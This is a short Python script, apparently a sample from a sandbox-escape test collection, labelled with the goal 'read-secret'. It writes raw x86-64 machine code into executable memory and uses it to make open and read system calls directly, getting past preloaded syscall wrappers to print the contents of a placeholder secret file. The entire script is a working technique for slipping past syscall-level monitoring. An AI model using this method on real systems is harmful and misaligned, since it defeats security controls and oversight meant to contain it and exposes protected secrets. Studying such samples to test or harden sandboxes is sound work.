# technique: machine code in memory makes the system calls itself
# goal: read-secret
# source: preloaded wrappers are passed by
# needs: ctypes
import ctypes
import mmap
memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
memory.write(bytes.fromhex('4889f84889f74889d64889ca4d89c24d89c80f05c3'))
call = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 4)(
    ctypes.addressof(ctypes.c_char.from_buffer(memory)))
path, data = ctypes.create_string_buffer(b'@SECRET@'), ctypes.create_string_buffer(200)
call(0, call(2, ctypes.addressof(path), 0, 0), ctypes.addressof(data), 199)
print(data.value)
